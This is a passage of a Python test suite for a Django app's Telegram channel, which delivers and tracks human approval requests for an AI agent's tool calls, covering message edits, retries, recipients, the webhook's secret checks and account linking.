    approval_services.approve_edited(approval.pk, user=bob, arguments={"path": "b.txt"}, via="chat", shown_hash=approval.shown_hash)
    fake.lost_answers = set()
    assert send(row) == outbox.Sent.SENT
    old, new = copies_to(fake, CAROL_TG, approval)
    assert "a.txt" in old["text"] and "b.txt" in new["text"] and "a.txt" not in new["text"]

    for label in ("Approve", "Reject"):
        assert press(fake, CAROL_TG, fake.buttons(old)[label], query_id=label).startswith("The call was edited after this message")
    assert "Why reject" not in replies(fake, CAROL_TG)[-1]
    assert press(fake, CAROL_TG, fake.buttons(old)["Reject"], query_id="q2").startswith("The call was edited")
    assert TelegramAccount.objects.get(user=carol).awaiting == ""
    assert Approval.objects.get(pk=approval.pk).status == "pending"

    assert press(fake, CAROL_TG, fake.buttons(new)["Approve"], query_id="q3") == "Approved."

    approval.refresh_from_db()
    assert (approval.status, approval.decided_by, approval.approved_arguments) == ("approved", carol, {"path": "b.txt"})


@through_the_loop
def test_a_typed_confirmation_decides_the_version_of_the_message_whose_button_asked_for_it(fake, settings, alice, bob, carol, ops_agent):
    approval, row = four_eyes_to_carol(settings, alice, carol, ops_agent)
    fake.lost_answers = {"sendMessage"}
    send(row)
    critical = "b\u200b.txt"  # an invisible character: one level riskier, critical
    approval_services.approve_edited(approval.pk, user=bob, arguments={"path": critical}, via="chat", shown_hash=approval.shown_hash)
    fake.lost_answers = set()
    send(row)
    old, new = copies_to(fake, CAROL_TG, approval)
    assert Approval.objects.get(pk=approval.pk).confirmation_required

    assert press(fake, CAROL_TG, fake.buttons(old)["Approve"]).startswith("The call was edited after this message")
    say(CAROL_TG, critical)
    assert Approval.objects.get(pk=approval.pk).status == "pending"

    assert press(fake, CAROL_TG, fake.buttons(new)["Approve (type the confirmation)"], query_id="q2") == "Type the confirmation to approve."
    assert TelegramAccount.objects.get(user=carol).awaiting_shown_hash == Approval.objects.get(pk=approval.pk).shown_hash
    edited, dave = Approval.objects.get(pk=approval.pk), User.objects.create_user("dave")
    dave.groups.add(approvers_group())  # a third approver edits it again, on the site
    approval_services.approve_edited(approval.pk, user=dave, arguments={"path": "c\u200b.txt"}, via="chat", shown_hash=edited.shown_hash)
    say(CAROL_TG, critical)  # typed for the version its message showed: it changed meanwhile
    assert replies(fake, CAROL_TG)[-1].startswith("The call was edited after this message")
    assert Approval.objects.get(pk=approval.pk).status == "pending"


def edited_by_bob(fake, alice, bob, carol, ops_agent) -> tuple[Approval, Approval, dict, ApprovalMessage]:
    """alice's four-eyes call sent to bob and carol, then edited by bob (it waits for carol): the
    call before and after the edit, the buttons carol's message had before, and that message."""
    link(bob, BOB_TG)
    link(carol, CAROL_TG)
    approval = only_pending(start_conversation(alice, ops_agent, "delete a.txt"))
    before = fake.buttons(request_to(fake, CAROL_TG, approval))
    approval_services.approve_edited(approval.pk, user=bob, arguments={"path": "b.txt"}, via="chat", shown_hash=approval.shown_hash)
    edited = Approval.objects.get(pk=approval.pk)
    assert edited.status == "pending" and edited.shown_hash != approval.shown_hash
    return approval, edited, before, ApprovalMessage.objects.get(approval=approval, account__user=carol)


@through_the_loop
def test_an_edit_rewrites_each_sent_copy_in_place_with_buttons_for_the_new_version(fake, alice, bob, carol, ops_agent):
    """Telegram rewrites a copy where it is: once bob edits the call, carol's message shows the edit
    and its buttons carry a version of their own; the old ones (pressed before the edit reached her
    phone) decide nothing."""
    approval, edited, before, row = edited_by_bob(fake, alice, bob, carol, ops_agent)

    (edit,) = edits_to(fake, CAROL_TG)
    assert edit["message_id"] == row.message_id and "b.txt" in edit["text"]
    assert len(copies_to(fake, CAROL_TG, approval)) == 1  # rewritten, not sent again
    after = fake.buttons(edit)
    assert set(after) == {"Approve", "Reject"} and after["Approve"] != before["Approve"]
    row.refresh_from_db()
    assert (row.status, row.shown_hash, row.complete) == ("sent", edited.shown_hash, True)
    assert list(row.versions.order_by("pk").values_list("shown_hash", flat=True)) == [approval.shown_hash, edited.shown_hash]
    assert after["Approve"].split(":", 1)[1] == row.versions.order_by("pk").last().token

    assert press(fake, CAROL_TG, before["Approve"]).startswith("The call was edited after this message")
    assert press(fake, CAROL_TG, before["Reject"], query_id="q2").startswith("The call was edited after this message")
    assert Approval.objects.get(pk=approval.pk).status == "pending"
    assert TelegramAccount.objects.get(user=carol).awaiting == ""

    assert press(fake, CAROL_TG, after["Approve"], query_id="q3") == "Approved."

    approval.refresh_from_db()
    assert (approval.status, approval.decided_by, approval.approved_arguments) == ("approved", carol, {"path": "b.txt"})
    assert "Approved by carol via telegram" in edits_to(fake, CAROL_TG)[-1]["text"]
    assert ApprovalMessage.objects.get(pk=row.pk).status == "closed"


@through_the_loop
def test_an_edit_leaves_the_editors_own_copy_without_buttons_as_slack_does(fake, alice, bob, carol, ops_agent):
    """bob edited the four-eyes call: he may no longer decide it, so his copy shows the edit and says
    others decide it now, with no button to press (a press would be refused anyway)."""
    approval, edited, before, row = edited_by_bob(fake, alice, bob, carol, ops_agent)

    (edit,) = edits_to(fake, BOB_TG)
    assert "b.txt" in edit["text"] and "now decided by others" in edit["text"]
    assert fake.buttons(edit) == {}


@through_the_loop
def test_an_edit_whose_rewrite_was_lost_is_rewritten_by_the_sweep(fake, alice, bob, carol, ops_agent, settings):
    fake.failing = {"editMessageText"}  # the rewrite and every retry fail: as if its task were lost
    approval, edited, before, row = edited_by_bob(fake, alice, bob, carol, ops_agent)
    assert not edits_to(fake, CAROL_TG)
    assert ApprovalMessage.objects.get(pk=row.pk).shown_hash == approval.shown_hash
    settings.HITL_TELEGRAM_STALE_SECONDS = 0
    fake.failing = set()

    delivery_tasks.sweep.delay()

    edit = edits_to(fake, CAROL_TG)[-1]
    assert edit["message_id"] == row.message_id and "b.txt" in edit["text"]
    assert fake.buttons(edit)["Approve"] != before["Approve"]
    assert ApprovalMessage.objects.get(pk=row.pk).shown_hash == edited.shown_hash
    assert outbox.lost(CHANNEL, now=timezone.now() + timedelta(seconds=5)).to_rewrite == []
    assert press(fake, CAROL_TG, fake.buttons(edit)["Approve"]) == "Approved."
    assert Approval.objects.get(pk=approval.pk).approved_arguments == {"path": "b.txt"}


# --- Who gets a request ------------------------------------------------------------------------------


@through_the_loop
def test_an_ordinary_call_goes_only_to_its_owner(fake, alice, bob, mallory, agent):
    link(alice, ALICE_TG)
    link(bob, BOB_TG)
    link(mallory, MALLORY_TG)

    approval = only_pending(start_conversation(alice, agent, "write hello to a.txt"))

    assert [account.user for account in CHANNEL.recipients(approval)] == [alice]
    assert list(ApprovalMessage.objects.values_list("account__user__username", flat=True)) == ["alice"]
    assert request_to(fake, ALICE_TG, approval)
    assert not request_to(fake, BOB_TG, approval) and not request_to(fake, MALLORY_TG, approval)


@through_the_loop
def test_a_four_eyes_call_goes_only_to_approvers_other_than_the_requester(fake, alice, bob, carol, mallory, ops_agent):
    for user, telegram_id in ((alice, ALICE_TG), (bob, BOB_TG), (carol, CAROL_TG), (mallory, MALLORY_TG)):
        link(user, telegram_id)

    approval = only_pending(start_conversation(alice, ops_agent, "delete a.txt"))
    assert approval.approver_required
    assert sorted(account.user.username for account in CHANNEL.recipients(approval)) == ["bob", "carol"]
    assert request_to(fake, BOB_TG, approval) and request_to(fake, CAROL_TG, approval)
    assert not request_to(fake, ALICE_TG, approval) and not request_to(fake, MALLORY_TG, approval)

    bobs = only_pending(start_conversation(bob, ops_agent, "delete a.txt"))  # an approver's own call
    assert [account.user.username for account in CHANNEL.recipients(bobs)] == ["carol"]
    assert not request_to(fake, BOB_TG, bobs)


@through_the_loop
def test_a_four_eyes_press_by_one_approver_edits_every_approvers_copy(fake, alice, bob, carol, ops_agent):
    for user, telegram_id in ((alice, ALICE_TG), (bob, BOB_TG), (carol, CAROL_TG)):
        link(user, telegram_id)
    approval = only_pending(start_conversation(alice, ops_agent, "delete a.txt"))

    assert press(fake, BOB_TG, fake.buttons(request_to(fake, BOB_TG, approval))["Approve"]) == "Approved."

    assert "Approved by bob via telegram" in edits_to(fake, CAROL_TG)[-1]["text"]
    assert "Approved by bob via telegram" in edits_to(fake, BOB_TG)[-1]["text"]
    assert set(ApprovalMessage.objects.filter(approval=approval).values_list("status", flat=True)) == {"closed"}


@through_the_loop
def test_an_inactive_user_gets_nothing(fake, alice, bob, carol, ops_agent):
    link(alice, ALICE_TG)
    link(bob, BOB_TG)
    link(carol, CAROL_TG)
    User.objects.filter(pk__in=[alice.pk, carol.pk]).update(is_active=False)

    conversation = chat_services.start_conversation(user=alice, agent=ops_agent, content="delete a.txt")
    approval = only_pending(conversation)

    assert [account.user.username for account in CHANNEL.recipients(approval)] == ["bob"]
    own = Approval(requested_by=alice, approver_required=False)
    assert CHANNEL.recipients(own) == []
    assert not request_to(fake, CAROL_TG, approval)
    assert list(ApprovalMessage.objects.values_list("account__user__username", flat=True)) == ["bob"]


@through_the_loop
def test_nothing_is_queued_without_a_bot_token(fake, alice, agent, settings):
    link(alice, ALICE_TG)
    settings.TELEGRAM_BOT_TOKEN = ""
    calls_before = len(fake.calls)

    approval = only_pending(start_conversation(alice, agent, "write hello to a.txt"))

    assert not ApprovalMessage.objects.exists()
    assert not CHANNEL.enabled()
    receivers.on_approval_requested(Approval, approval)  # the request's signal again: the channel is off
    assert not ApprovalMessage.objects.exists()
    approval_services.decide(approval.pk, user=alice, approve=True, via="chat", shown_hash=approval.shown_hash)
    assert len(fake.calls) == calls_before


# --- The life of a message -----------------------------------------------------------------------------


@through_the_loop
def test_a_message_whose_approval_was_decided_before_sending_is_closed_unsent(fake, alice, agent, settings):
    link(alice, ALICE_TG)
    approval, row = queued_unsent(settings, alice, agent, "write hello to a.txt")

    approval_services.decide(approval.pk, user=alice, approve=False, via="chat", shown_hash=approval.shown_hash)  # its closing task closes it unsent

    assert ApprovalMessage.objects.get(pk=row.pk).status == "closed"
    assert send(row) == outbox.Sent.NOT_CLAIMED
    ApprovalMessage.objects.filter(pk=row.pk).update(status="queued")  # as if the send came before the closing
    assert send(row) == outbox.Sent.CLOSED
    assert ApprovalMessage.objects.get(pk=row.pk).status == "closed"
    assert not request_to(fake, ALICE_TG, approval) and not edits_to(fake, ALICE_TG)


@through_the_loop
def test_a_failed_send_stays_queued_and_the_sweep_sends_it_again(fake, alice, agent, settings):
    link(alice, ALICE_TG)
    approval, row = queued_unsent(settings, alice, agent, "write hello to a.txt")
    fake.failing = {"sendMessage"}

    assert send(row) == outbox.Sent.FAILED
    assert send(row) == outbox.Sent.FAILED

    row.refresh_from_db()
    assert (row.status, row.attempts, row.message_id) == ("queued", 2, None)
    assert "Internal Server Error" in row.last_error
    settings.HITL_TELEGRAM_STALE_SECONDS = 0
    assert lost() == ([(ApprovalMessage, row.pk)], [])

    fake.failing = set()
    assert send(row) == outbox.Sent.SENT

    row.refresh_from_db()
    assert (row.status, row.attempts, row.last_error) == ("sent", 3, "")
    assert row.message_id > 100 and request_to(fake, ALICE_TG, approval)
    assert lost() == ([], [])


@through_the_loop
def test_a_press_on_a_copy_whose_send_was_never_recorded_records_it_and_edits_it_to_the_outcome(fake, alice, agent, settings):
    """Telegram delivered the request but its answer never came back (or the worker died before
    recording it): the press carries the message, so the outcome still replaces its buttons."""
    link(alice, ALICE_TG)
    approval, row = queued_unsent(settings, alice, agent, "write hello to a.txt")
    fake.lost_answers = {"sendMessage"}
    assert send(row) == outbox.Sent.FAILED
    fake.lost_answers = set()
    assert ApprovalMessage.objects.get(pk=row.pk).message_id is None
    (delivered,) = [m for m in fake.delivered.values() if f"(#{approval.pk})" in m["text"]]
    someone_elses = dict(delivered, chat={"id": BOB_TG, "type": "private"})

    updates.handle(press_update(ALICE_TG, fake.buttons(delivered)["Approve"], query_id="q9", message=someone_elses))
    assert fake.answer_to("q9") == "Approved."
    assert ApprovalMessage.objects.get(pk=row.pk).message_id is None  # a message of another chat proves nothing
    assert not edits_to(fake, ALICE_TG)

    # The same, with the message the button was really on.
    approval2, row2 = queued_unsent(settings, alice, agent, "write bye to b.txt")
    fake.lost_answers = {"sendMessage"}
    send(row2)
    fake.lost_answers = set()
    (delivered2,) = [m for m in fake.delivered.values() if f"(#{approval2.pk})" in m["text"]]

    updates.handle(press_update(ALICE_TG, fake.buttons(delivered2)["Approve"], query_id="q10", message=delivered2))

    assert fake.answer_to("q10") == "Approved."
    row2.refresh_from_db()
    assert (row2.status, row2.message_id) == ("closed", delivered2["message_id"])
    (edit,) = edits_to(fake, ALICE_TG)
    assert edit["message_id"] == delivered2["message_id"] and "Approved by alice via telegram" in edit["text"]


@through_the_loop
def test_a_send_that_keeps_failing_gives_up_after_the_retries(fake, alice, agent, settings):
    settings.HITL_TELEGRAM_RETRIES = 1
    link(alice, ALICE_TG)
    approval, row = queued_unsent(settings, alice, agent, "write hello to a.txt")
    fake.failing = {"sendMessage"}

    assert send(row) == outbox.Sent.FAILED
    assert ApprovalMessage.objects.get(pk=row.pk).status == "queued"
    assert send(row) == outbox.Sent.FAILED
    assert send(row) == outbox.Sent.NOT_CLAIMED

    row.refresh_from_db()
    assert (row.status, row.attempts) == ("failed", 2)
    settings.HITL_TELEGRAM_STALE_SECONDS = 0
    assert lost() == ([], [])


@through_the_loop
def test_the_sweep_sends_what_a_lost_task_left_queued(fake, alice, agent, settings):
    link(alice, ALICE_TG)
    approval, row = queued_unsent(settings, alice, agent, "write hello to a.txt")
    settings.HITL_TELEGRAM_STALE_SECONDS = 0

    delivery_tasks.sweep.delay()

    assert ApprovalMessage.objects.get(pk=row.pk).status == "sent"
    assert request_to(fake, ALICE_TG, approval)


@through_the_loop
def test_a_blocked_bot_marks_the_message_failed(fake, alice, agent, settings):
    link(alice, ALICE_TG)
    approval, row = queued_unsent(settings, alice, agent, "write hello to a.txt")
    fake.forbidden = {"sendMessage"}

    assert send(row) == outbox.Sent.FAILED

    row.refresh_from_db()
    assert (row.status, row.attempts) == ("failed", 1)
    assert "blocked" in row.last_error
    assert send(row) == outbox.Sent.NOT_CLAIMED
    settings.HITL_TELEGRAM_STALE_SECONDS = 0
    assert lost() == ([], [])
    approval_services.decide(approval.pk, user=alice, approve=True, via="chat", shown_hash=approval.shown_hash)
    assert not edits_to(fake, ALICE_TG)

    # Blocked when the request is made: its task fails the message, and the call still waits.
    later = only_pending(start_conversation(alice, agent, "write hello to b.txt"))
    assert ApprovalMessage.objects.get(approval=later).status == "failed"


@through_the_loop
def test_a_failed_edit_is_kept_for_the_sweep_to_close_again(pending, fake, alice, settings):
    approval, _ = pending
    row = ApprovalMessage.objects.get(approval=approval)
    fake.failing = {"editMessageText"}

    assert outbox.close(CHANNEL, row.pk) is True  # still pending: nothing to edit
    approval_services.decide(approval.pk, user=alice, approve=True, via="chat", shown_hash=approval.shown_hash)  # its closing task fails, retried eagerly

    row.refresh_from_db()
    assert row.status == "sent" and "Internal Server Error" in row.last_error
    settings.HITL_TELEGRAM_STALE_SECONDS = 0
    assert lost() == ([], [row.pk])

    fake.failing = set()
    assert outbox.close(CHANNEL, row.pk) is True
    assert ApprovalMessage.objects.get(pk=row.pk).status == "closed"
    assert "Approved by alice via chat" in edits_to(fake, ALICE_TG)[-1]["text"]


# --- The poller ------------------------------------------------------------------------------------


@through_the_loop
def test_the_poller_waits_out_an_unreachable_bot_api_then_polls(alice, settings, caplog):
    """`make run` starts the poller with the others; exiting while the Bot API is down would take
    the whole stack down (honcho). It logs one line a failure, waits longer each time, then polls."""
    port = free_port()
    settings.TELEGRAM_BOT_TOKEN, settings.TELEGRAM_API_BASE_URL = "4242:test-token", f"http://127.0.0.1:{port}"
    code = accounts.issue_code(alice)
    failures = lambda: [r.getMessage() for r in caplog.records if "failed, again in" in r.getMessage()]  # noqa: E731
    up = []

    def bring_the_bot_api_up():
        try:
            wait_until(lambda: len(failures()) >= 2, timeout=30, message="two failed tries")
        finally:  # whatever happens, the poller below ends
            up.append(FakeTelegram(port=port).__enter__())
            up[0].say(ALICE_TG, f"/start {code}")

    thread = threading.Thread(target=bring_the_bot_api_up, daemon=True)
    thread.start()
    out = io.StringIO()
    try:
        call_command("telegram_poll", once=True, stdout=out)  # --once: back after one batch of updates
    finally:
        thread.join(10)
        if up:
            up[0].__exit__()

    assert TelegramAccount.objects.get(user=alice).telegram_user_id == ALICE_TG
    assert "Polling Telegram for updates." in out.getvalue()
    logged = failures()
    assert len(logged) >= 2 and "again in 1 s" in logged[0] and "again in 2 s" in logged[1], logged


# --- The webhook ----------------------------------------------------------------------------------------


def webhook(body, *, path_secret: str | None = None, header: str | None = None, content_type="application/json"):
    headers = {SECRET_HEADER: header} if header is not None else {}
    data = json.dumps(body) if not isinstance(body, (str, bytes)) else body
    return Client().post(f"/telegram/webhook/{path_secret or webhook_secret('path')}/", data,
                         content_type=content_type, headers=headers)


def test_the_webhook_with_both_secrets_handles_the_update(fake, alice):
    code = accounts.issue_code(alice)

    response = webhook(message_update(ALICE_TG, f"/start {code}"), header=webhook_secret("header"))

    assert response.status_code == 200 and response.json() == {"ok": True}
    assert TelegramAccount.objects.get(user=alice).telegram_user_id == ALICE_TG
    assert replies(fake, ALICE_TG)[-1].startswith("Linked to alice.")


def test_the_webhook_at_a_wrong_path_is_not_found(fake, alice):
    code = accounts.issue_code(alice)

    response = webhook(message_update(ALICE_TG, f"/start {code}"), path_secret="wrong", header=webhook_secret("header"))

    assert response.status_code == 404
    assert not TelegramAccount.objects.exists()


def test_the_webhook_at_a_non_ascii_path_is_not_found(fake):
    """(FAILS: views.webhook compares the path with hmac.compare_digest, which raises TypeError for
    a str with non-ASCII characters, so this answers 500 rather than 404.)"""
    client = Client(raise_request_exception=False)

    response = client.post("/telegram/webhook/%C3%A9t%C3%A9/", "{}", content_type="application/json",
                           headers={SECRET_HEADER: webhook_secret("header")})

    assert response.status_code == 404


def test_the_webhook_without_the_right_secret_header_is_forbidden(fake, alice):
    code = accounts.issue_code(alice)

    for header in (None, "", "wrong", webhook_secret("path"), webhook_secret("header")[:-1]):
        response = webhook(message_update(ALICE_TG, f"/start {code}"), header=header)
        assert response.status_code == 403, header

    assert not TelegramAccount.objects.exists()
    assert LinkCode.objects.get(user=alice).used_at is None


def test_the_webhook_with_a_non_ascii_secret_header_is_forbidden(fake):
    """(FAILS like the non-ASCII path: hmac.compare_digest raises TypeError, a 500 rather than a 403.)"""
    client = Client(raise_request_exception=False)

    response = client.post(f"/telegram/webhook/{webhook_secret('path')}/", "{}", content_type="application/json",
                           headers={SECRET_HEADER: "sécret"})

    assert response.status_code == 403


def test_the_webhook_answers_400_to_a_body_that_is_not_json(fake):
    for body in ("not json", b"\xff\xfe\x00", "{", ""):
        response = webhook(body, header=webhook_secret("header"))
        assert response.status_code == 400 and response.json() == {"detail": "The body is not JSON."}, body


def test_the_webhook_takes_json_that_is_no_update_and_does_nothing(fake):
    for body in ([], 3, "null", {"message": "x"}, {"callback_query": {"id": 5}}, {"update_id": 9}):
        response = webhook(body, header=webhook_secret("header"))
        assert response.status_code == 200, body
    assert not [name for name, _ in fake.calls if name != "getMe"]


def test_the_webhook_is_not_found_when_the_bot_is_off(fake, alice, settings):
    path, header = webhook_secret("path"), webhook_secret("header")
    code = accounts.issue_code(alice)
    settings.TELEGRAM_BOT_TOKEN = ""

    response = webhook(message_update(ALICE_TG, f"/start {code}"), path_secret=path, header=header)

    assert response.status_code == 404
    assert not TelegramAccount.objects.exists()


def test_the_webhook_secrets_change_with_the_bot_token(fake, settings):
    before = webhook_secret("path"), webhook_secret("header")
    assert before[0] != before[1] and len(before[0]) == 48

    settings.TELEGRAM_BOT_TOKEN = "4242:another-token"

    assert (webhook_secret("path"), webhook_secret("header")) != before


def test_the_webhook_takes_only_post(fake):
    response = Client().get(f"/telegram/webhook/{webhook_secret('path')}/", headers={SECRET_HEADER: webhook_secret("header")})

    assert response.status_code == 405


@through_the_loop
def test_a_press_through_the_webhook_decides(pending, fake, alice):
    approval, buttons = pending

    plain_reject = buttons["Reject"].replace("R:", "r:")  # the "Reject without a reason" under the prompt
    response = webhook(press_update(ALICE_TG, plain_reject, query_id="web-1"), header=webhook_secret("header"))

    assert response.status_code == 200
    assert fake.answer_to("web-1") == "Rejected."
    assert Approval.objects.get(pk=approval.pk).status == "rejected"


# --- The Telegram page ----------------------------------------------------------------------------------


def test_the_telegram_page_needs_a_login(fake, alice):
    for response in (Client().get("/telegram/"), Client().post("/telegram/code/"), Client().post("/telegram/unlink/")):
        assert response.status_code == 302 and response.url.startswith("/accounts/login/")
    assert not LinkCode.objects.exists()


def test_get_a_link_code_shows_a_code_that_links(fake, alice):
    client = client_for(alice, csrf=True)
    page = client.get("/telegram/")
    assert page.status_code == 200 and 'id="telegram-not-linked"' in page.content.decode()
    token = page.cookies["csrftoken"].value if "csrftoken" in page.cookies else client.cookies["csrftoken"].value

    response = client.post("/telegram/code/", {"csrfmiddlewaretoken": token})

    assert response.status_code == 200
    html = response.content.decode()
    code = html.split('<code id="telegram-code">/start ', 1)[1].split("<", 1)[0]
    assert len(code) == CODE_LENGTH
    say(ALICE_TG, f"/start {code}")
    assert TelegramAccount.objects.get(user=alice).telegram_user_id == ALICE_TG
    linked = client.get("/telegram/").content.decode()
    assert f"Linked to Telegram account {ALICE_TG} (@user{ALICE_TG})" in linked


def test_a_post_without_a_csrf_token_is_forbidden(fake, alice):
    link(alice, ALICE_TG)
    client = client_for(alice, csrf=True)

    assert client.post("/telegram/code/").status_code == 403
    assert client.post("/telegram/unlink/").status_code == 403

    assert LinkCode.objects.filter(used_at__isnull=True).count() == 0
    assert TelegramAccount.objects.filter(user=alice).exists()


def test_unlink_removes_the_telegram_account(fake, alice, bob):
    link(alice, ALICE_TG)
    link(bob, BOB_TG)
    client = client_for(alice, csrf=True)
    client.get("/telegram/")

    response = client.post("/telegram/unlink/", {"csrfmiddlewaretoken": client.cookies["csrftoken"].value})

    assert response.status_code == 302 and response.url == "/telegram/"
    assert list(TelegramAccount.objects.values_list("user__username", flat=True)) == ["bob"]
    assert "not linked" in press(fake, ALICE_TG, "a:whatever")


def test_the_page_without_a_bot_says_so_and_gives_no_code(alice, settings):
    settings.TELEGRAM_BOT_TOKEN = ""
    client = client_for(alice)

    assert 'id="telegram-off"' in client.get("/telegram/").content.decode()
    assert client.post("/telegram/code/").status_code == 404
    assert not LinkCode.objects.exists()
